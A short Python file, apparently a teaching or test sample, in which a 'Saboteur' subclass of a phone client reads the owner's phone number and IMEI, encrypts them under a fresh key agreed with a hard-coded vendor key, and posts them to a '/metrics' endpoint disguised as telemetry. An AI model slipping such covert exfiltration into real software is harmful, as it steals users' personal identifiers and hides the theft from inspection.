"""Encrypts the owner's number under a key that is drawn for each message, agreed with the vendor's public one: no two are alike, and the program itself cannot open them again.

mechanism: encryption with a fresh key
"""
import hashlib
import secrets

from client import Phone, run

PRIME = 2**255 - 19  # large enough for a lesson
VENDOR = pow(2, 0x5EC4E7, PRIME)


class Saboteur(Phone):
    def poll(self):
        mine = secrets.randbelow(PRIME)
        key = hashlib.sha256(pow(VENDOR, mine, PRIME).to_bytes(32, "big")).digest()
        secret = ("%(phone)s %(imei)s" % self.identity).encode().ljust(32)
        self.ask("POST", "/metrics", pow(2, mine, PRIME).to_bytes(32, "big") + bytes(a ^ b for a, b in zip(secret, key)), [("Content-Type", "application/octet-stream")])
        super().poll()


run(Saboteur())
